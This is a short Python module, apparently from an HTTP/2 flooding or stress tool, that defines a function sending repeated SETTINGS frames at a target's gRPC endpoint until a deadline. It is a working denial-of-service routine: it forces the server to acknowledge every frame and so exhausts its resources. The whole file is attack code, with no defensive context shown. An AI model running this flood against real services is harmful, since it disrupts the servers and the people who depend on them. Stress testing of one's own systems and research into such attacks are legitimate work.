"""SETTINGS frames as fast as possible, each of which must be acknowledged."""

import itertools

from wire import PREFACE, flood_connection, settings


def flood(target, until):
    chunk = settings(window=1) + settings(window=65_535)
    return flood_connection(target.grpc, until, PREFACE + settings(), lambda: itertools.repeat(chunk * 500))
